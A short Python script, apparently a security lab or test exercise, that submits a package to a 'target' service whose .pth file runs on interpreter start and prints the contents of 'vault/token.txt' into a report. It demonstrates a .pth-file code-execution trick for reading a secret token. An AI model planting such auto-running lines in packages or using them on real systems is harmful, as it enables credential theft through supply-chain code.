"""A .pth file in the wheel: its line runs when the report starts, though the report does not use the package."""

from target import report, submit

submit("comet", {"comet.py": "", "comet.pth": "import sys; print(open('vault/token.txt').read())\n"})
print(report())
